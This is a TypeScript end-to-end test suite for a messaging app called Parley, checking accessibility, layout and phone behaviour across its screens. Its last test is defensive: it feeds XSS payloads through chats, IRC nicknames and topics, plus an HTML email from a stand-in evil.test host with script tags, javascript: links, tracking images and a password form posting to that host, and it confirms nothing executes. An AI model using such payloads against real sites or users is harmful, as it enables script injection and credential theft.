import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { looks, openBrowser, Visitor, Visitors } from '../support/browser.js';
import { IrcPeer } from '../support/irc-peer.js';
import { labOrSkip } from '../support/lab.js';
import { MailPeer, own } from '../support/mail-peer.js';
import { eventually, OWNER, Parley } from '../support/parley.js';
import { freePort } from '../support/ports.js';

/** Every screen for those who see little, have no mouse or have a phone, and for those who mean harm. */
const ready = await labOrSkip([], ['browser']);

/** Where something is once it has not moved for half a second: far up, older messages may still be looked for. */
async function atRest(shown: Locator): Promise<Awaited<ReturnType<Locator['boundingBox']>>> {
  for (let box = await shown.boundingBox(), tries = 0; tries < 20; tries += 1) {
    await new Promise((resolve) => setTimeout(resolve, 500));
    const now = await shown.boundingBox();
    if (JSON.stringify(now) === JSON.stringify(box)) return now;
    box = now;
  }
  throw new Error('it never comes to rest');
}

/** Asked before the sign-in, answered with a no, and told of by Chromium itself. */
const notSignedIn = /status of 401/;
const refusedForm = /status of 4(00|22)/;

if (ready) {
  describe('the screens', () => {
    let parley: Parley;
    let browser: Browser;
    let irc: IrcPeer;
    let mail: MailPeer;
    const visitors = new Visitors();
    const at = (name: string): Visitor => visitors.at(name);

    beforeAll(async () => {
      [parley, browser, irc, mail] = await Promise.all([
        Parley.start(),
        openBrowser(),
        IrcPeer.start(),
        MailPeer.start(),
      ]);
      for (const look of looks) visitors.set(look.name, await Visitor.come(browser, parley.url, look));
    });
    afterAll(async () => {
      await browser?.close();
      await parley?.remove();
      await irc?.stop();
      await mail?.stop();
    });
    beforeEach(({ task, onTestFailed }) => {
      onTestFailed(() => visitors.pictures(task.name));
    });

    /** What every screen owes everybody. */
    async function isSound(visitor: Visitor, screen: string): Promise<void> {
      expect.soft(await visitor.violations(), screen).toEqual([]);
      expect.soft(await visitor.overflow(), `${screen}: wider than the window`).toEqual([]);
    }

    const conversationOf = (name: string): Promise<string> => parley.idOf('conversations', name);
    const write = async (conversation: string, text: string): Promise<string> =>
      (await parley.ok('POST', `/conversations/${conversation}/messages`, { text })).message.id;
    const openEcho = async (accountId: string, address: string): Promise<string> =>
      (await parley.ok('POST', '/chats', { accountId, address })).conversation.id;

    test('set-up', async () => {
      for (const { name } of looks) {
        const visitor = at(name);
        await visitor.to();
        await visitor.heading('Set up Parley').waitFor();
        await isSound(visitor, `set-up, ${name}`);
        await visitor.button('Create account').click();
        await visitor.page.locator('[aria-invalid]').first().waitFor();
        await isSound(visitor, `set-up with errors, ${name}`);
      }
      await at('desktop, light').setUp();
      const { token } = await parley.ok('POST', '/sessions', { email: OWNER.email, password: OWNER.password });
      parley.token = token;
    });

    test('sign in and the empty home', async () => {
      for (const { name } of looks) {
        const visitor = at(name);
        await visitor.to();
        if (name !== 'desktop, light') {
          await visitor.page.reload();
          await visitor.heading('Sign in').waitFor();
          await isSound(visitor, `sign in, ${name}`);
          await visitor.signIn();
        }
        await visitor.list.getByText('No conversations yet').waitFor();
        await isSound(visitor, `empty home, ${name}`);
        await visitor.to('#/networks');
        await visitor.page.getByText('No networks yet').waitFor();
        await isSound(visitor, `no networks, ${name}`);
      }
    });

    test('adding a network, and a form with errors', async () => {
      for (const { name } of looks) {
        const visitor = at(name);
        await visitor.to('#/add');
        await visitor.page.getByRole('list', { name: 'Networks' }).getByRole('link').first().waitFor();
        await isSound(visitor, `add a network, ${name}`);
        await visitor.page.getByRole('main').getByRole('link', { name: 'SMS' }).click();
        await visitor.page.getByRole('group', { name: 'Sign in by' }).waitFor();
        await isSound(visitor, `ways to sign in, ${name}`);
        await visitor.to('#/add/irc');
        await visitor.fill('Port', 'many');
        await visitor.page.getByText('More options').click();
        await visitor.button('Sign in').click();
        await visitor.page.locator('.field-error').first().waitFor();
        expect(await visitor.field('Server').getAttribute('aria-invalid')).toBe('true');
        await isSound(visitor, `a form with errors, ${name}`);
        await visitor.to();
      }
    });

    test('networks, conversation, ledger, person, merge, request, settings', async () => {
      const echo = await parley.signIn('echo', 'name', { name: 'robin', buddies: 'ben, chloe, echo, silent' });
      await parley.online(echo.id);
      const nowhere = { server: '127.0.0.1', port: await freePort(), tls: 'off', nick: 'robin' };
      await parley.signIn('irc', 'server', nowhere);
      const login = irc.login.inputs[0] ?? {};
      const account = await parley.signIn('irc', irc.login.flow, { ...login, channels: '#tea' });
      await parley.online(account.id);
      irc.client.from('stranger', 'PRIVMSG parley :Hello, do we know each other?');
      await openEcho(echo.id, 'chloe');
      const ben = await openEcho(echo.id, 'ben');
      const last = await write(ben, 'Shall we meet at *six*? See https://example.org/map');
      for (const order of ['fail rejected the number is not in use', 'unknown', 'react', 'edit 1s', 'presence away'])
        await write(ben, order);
      const failed = await eventually(async () => {
        const { items } = await parley.ok('GET', `/conversations/${ben}/messages?limit=50`);
        return items.find((one: { status?: string }) => one.status === 'failed')?.id as string | undefined;
      });
      const stranger = await conversationOf('stranger');
      const tea = await conversationOf('#tea');
      for (const { name } of looks) {
        const visitor = at(name);
        const { page } = visitor;
        await visitor.to('#/networks');
        await page.getByRole('main').getByText('Waiting to try again').waitFor();
        await isSound(visitor, `networks, ${name}`);
        await visitor.to(`#/c/${ben}`);
        await visitor.message('Shall we meet').first().waitFor();
        await visitor.box.waitFor();
        await isSound(visitor, `conversation, ${name}`);
        await page.getByRole('button', { name: /^Send via/ }).click();
        await page.getByRole('menuitemradio').first().waitFor();
        await isSound(visitor, `send via, ${name}`);
        await page.keyboard.press('Escape');
        for (const message of [last, failed]) {
          await visitor.to(`#/c/${ben}/m/${message}`);
          await page.getByRole('list', { name: 'Tries' }).waitFor();
          await isSound(visitor, `ledger, ${name}`);
        }
        await visitor.to(`#/c/${ben}/person`);
        await visitor.button('Merge with…').waitFor();
        await isSound(visitor, `person, ${name}`);
        await visitor.button('Merge with…').click();
        await page.getByRole('dialog').getByRole('list', { name: 'Contacts' }).waitFor();
        await isSound(visitor, `merge, ${name}`);
        await page.keyboard.press('Escape');
        await visitor.to(`#/c/${stranger}`);
        await visitor.button('Accept').waitFor();
        await isSound(visitor, `request, ${name}`);
        await visitor.to(`#/c/${tea}`);
        await visitor.box.waitFor();
        await isSound(visitor, `channel, ${name}`);
        await visitor.to('#/settings');
        await visitor.heading('Presence').waitFor();
        await isSound(visitor, `settings, ${name}`);
        await page.keyboard.press('Control+k');
        const goTo = page.getByRole('dialog', { name: 'Go to' });
        await goTo.getByRole('combobox').fill('ben');
        await goTo.getByRole('option').first().waitFor();
        await isSound(visitor, `go to, ${name}`);
        await page.keyboard.press('Escape');
        await visitor.to();
        await visitor.entry('ben').waitFor();
        await isSound(visitor, `list, ${name}`);
        await visitor.list.getByRole('tab', { name: 'People' }).click();
        await visitor.entry('chloe').waitFor();
        await isSound(visitor, `people, ${name}`);
        await visitor.list.getByRole('tab', { name: 'Chats' }).click();
      }
    }, 240_000);

    test('nothing went wrong on any of them', () => {
      for (const [name, visitor] of visitors)
        expect.soft(visitor.unexpected(notSignedIn, refusedForm), name).toEqual([]);
    });

    test('a phone shows one thing at a time', async () => {
      const visitor = at('phone, dark');
      const { page } = visitor;
      await visitor.to();
      await visitor.entry('chloe').tap();
      await visitor.heading('chloe').waitFor();
      expect(await visitor.list.isVisible()).toBe(false);
      expect(await within(page, visitor.box)).toBe(true);
      await visitor.box.fill('from a phone');
      expect(await within(page, visitor.button('Send'))).toBe(true);
      await visitor.button('Send').tap();
      await visitor.message('from a phone').nth(1).waitFor();
      await eventually(() => within(page, visitor.message('from a phone').nth(1)));
      expect(await visitor.overflow()).toEqual([]);
      await visitor
        .message('from a phone')
        .first()
        .getByRole('link', { name: /^Delivery: / })
        .tap();
      await page.getByRole('list', { name: 'Tries' }).waitFor();
      expect(await visitor.box.isVisible()).toBe(false);
      await visitor.link('Back to the conversation').tap();
      await visitor.box.waitFor();
      await visitor.link('Back to the list').tap();
      await visitor.entry('ben').waitFor();
      expect(await visitor.box.isVisible()).toBe(false);
      await page.goBack();
      await visitor.box.waitFor();
    });

    test('what arrives moves nothing that is being read', async () => {
      const visitor = await Visitor.come(browser, parley.url);
      const { page } = visitor;
      await page.addInitScript(watchShifts);
      await visitor.to();
      await visitor.signIn();
      const chloe = await conversationOf('chloe');
      // Few enough to be drawn whole: where old rows are let go of, scrolling by one row counts as a shift.
      await write(chloe, 'flood 12');
      await visitor.to(`#/c/${chloe}`);
      await visitor.message('12 of 12').last().waitFor();
      const begin = (await movedOn(page)).length;
      for (let turn = 1; turn <= 5; turn++) {
        await write(chloe, `typing 300ms`);
        await write(chloe, `line ${turn}\nof several\nand one more`);
        await visitor.message(`line ${turn}\n`).nth(1).waitFor();
      }
      const moved = (await movedOn(page)).slice(begin);
      const much = moved.reduce((sum, one) => sum + one.much, 0);
      expect(much, JSON.stringify(moved, null, 1)).toBeLessThan(0.02);
      await write(chloe, 'flood 40');
      await visitor.message('40 of 40').waitFor();
      // Exactly this text: with the minute of its time before it, "1 of 40" reads like another number.
      const exactly = page.getByText('11 of 40', { exact: true });
      const reading = visitor.log.getByRole('article').filter({ has: exactly });
      await reading.scrollIntoViewIfNeeded();
      await visitor.button(/^Jump to newest/).waitFor();
      const before = await atRest(reading);
      await write(chloe, 'flood 5');
      await visitor.button(/^Jump to newest\s*\d+$/).waitFor();
      expect(await atRest(reading)).toEqual(before);
      await visitor.leave();
    });

    test('words from elsewhere stay words', async () => {
      const visitor = at('desktop, light');
      const { page } = visitor;
      const seen = visitor.troubles.length;
      const evil = '<img src=x onerror=pwned()><script>pwned()</script>';
      const evilNick = '<img/src=x/onerror=pwned()>';
      await visitor.to();
      await page.evaluate(() => Reflect.set(globalThis, 'pwned', () => Reflect.set(globalThis, 'isPwned', true)));

      const ben = await conversationOf('ben');
      await visitor.entry('ben').click();
      await visitor.write(evil);
      await visitor.message(evil).nth(1).waitFor();
      await visitor.write('[click](javascript:pwned()) **bold** <b onclick=pwned()>b</b>');
      await write(ben, `rename ${evilNick}`);
      await write(ben, `presence away ${evil}`);
      await visitor.heading(evilNick).waitFor();
      await visitor.link('About this person').click();
      await page.getByText(`Away: ${evil}`).first().waitFor();

      irc.client.from(evilNick, `PRIVMSG parley :${evil}`);
      irc.client.server(`332 parley #tea :${evil}`);
      irc.client.from('alice', `TOPIC #tea :${evil}`);
      await visitor.entry('#tea').click();
      await visitor.panes.locator('.chat-about').getByText(evil).waitFor();

      const account = await parley.signIn('email', mail.login.flow, mail.login.inputs[0] ?? {});
      await parley.online(account.id);
      mail.append(evilMail(evil));
      await visitor.entry('Mallory').click();
      await visitor.message('the harmless part').first().waitFor();
      const whole = visitor.button('Show the whole mail');
      if (await whole.isVisible()) await whole.click();
      await visitor.message('the harmless part').first().waitFor();
      const found = await page.evaluate(() => ({
        pwned: Reflect.get(globalThis, 'isPwned') === true,
        scripts: [...document.querySelectorAll('body script:not([src])')].filter((one) => /pwned/.test(one.innerHTML))
          .length,
        elements: document.querySelectorAll('main :is(img,script,iframe,object,form[action],style,link,svg [onload])')
          .length,
        handlers: [...document.querySelectorAll('*')].filter((one) =>
          one.getAttributeNames().some((name) => /^on/.test(name)),
        ).length,
        links: [...document.querySelectorAll('a')].filter((one) =>
          /^\s*(javascript|data):/i.test(one.getAttribute('href') ?? ''),
        ).length,
      }));
      expect(found).toEqual({ pwned: false, scripts: 0, elements: 0, handlers: 0, links: 0 });
      expect(visitor.troubles.slice(seen)).toEqual([]);
    });
  });
}

const evilMail = (evil: string): string => `From: Mallory <mallory@evil.test>
To: ${own}
Subject: ${evil}
Message-ID: <evil@evil.test>
Date: ${new Date().toUTCString()}
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body { background: url(http://evil.test/track) }</style><script>pwned()</script></head>
<body onload="pwned()"><p>the harmless part</p>${evil}
<img src="http://evil.test/track.gif"><iframe src="javascript:pwned()"></iframe>
<a href="javascript:pwned()">click</a><a href="data:text/html,<script>pwned()</script>">or here</a>
<svg onload="pwned()"></svg><form action="http://evil.test"><input name="password"></form>
<div style="position:fixed;inset:0;background:url(http://evil.test/track)" onclick="pwned()">all over</div></body></html>
`;

async function within(page: Page, one: { boundingBox(): Promise<Box | null> }): Promise<boolean> {
  const [box, size] = [await one.boundingBox(), page.viewportSize()];
  if (!box || !size) return false;
  return box.x >= 0 && box.y >= 0 && box.x + box.width <= size.width && box.y + box.height <= size.height;
}
type Box = { x: number; y: number; width: number; height: number };

type Moved = { much: number; what: string[] }[];
const movedOn = (page: Page): Promise<Moved> => page.evaluate(() => Reflect.get(globalThis, 'moved') as Moved);

/** Runs in the page: notes what moved without anybody having touched anything. */
function watchShifts(): void {
  const moved: Moved = [];
  Reflect.set(globalThis, 'moved', moved);
  new PerformanceObserver((list) => {
    for (const entry of list.getEntries()) {
      if (Reflect.get(entry, 'hadRecentInput') === true) continue;
      const sources: { node?: Node; previousRect: DOMRect; currentRect: DOMRect }[] = Reflect.get(entry, 'sources');
      const what = sources.map(({ node, previousRect: was, currentRect: is }) => {
        const name = node instanceof Element ? `${node.tagName}.${node.className}` : node?.nodeName;
        return `${name} from ${was.x},${was.y} ${was.width}x${was.height} to ${is.x},${is.y} ${is.width}x${is.height}`;
      });
      moved.push({ much: Number(Reflect.get(entry, 'value')), what });
    }
  }).observe({ type: 'layout-shift', buffered: true });
}
